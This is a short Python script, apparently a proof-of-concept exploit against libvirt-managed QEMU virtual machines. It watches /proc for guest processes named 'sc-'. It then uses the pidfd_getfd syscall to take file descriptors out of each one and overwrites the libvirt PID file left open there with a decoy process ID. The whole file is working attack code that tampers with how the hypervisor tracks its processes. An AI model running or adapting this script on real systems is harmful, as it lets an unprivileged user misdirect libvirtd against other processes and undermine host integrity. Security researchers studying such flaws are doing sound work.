#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""move_qemu.py DECOY: as soon as a QEMU of one of this user's machines begins, writes the process DECOY into the file
of its process id, which libvirtd leaves open in it."""
import ctypes
import glob
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438
seen = set()


def write_into(pid):
    process = os.pidfd_open(pid)
    for number in range(3, 64):
        taken = libc.syscall(PIDFD_GETFD, process, number, 0)
        if taken < 0:
            continue
        path = os.readlink(f"/proc/self/fd/{taken}")
        if path.endswith(".pid"):
            os.ftruncate(taken, 0)
            os.pwrite(taken, sys.argv[1].encode() + b"\n", 0)
            print(f"wrote {sys.argv[1]} into {path} of {pid}", flush=True)
            sys.exit(0)
        os.close(taken)
    os.close(process)


print("watching", flush=True)
while not os.path.exists("enough"):
    for path in glob.glob("/proc/[0-9]*"):
        try:
            with open(f"{path}/cmdline", "rb") as file:
                if b"guest=sc-" in file.read() and int(path[6:]) != int(sys.argv[1]):
                    write_into(int(path[6:]))
        except OSError:
            pass
    time.sleep(0.001)
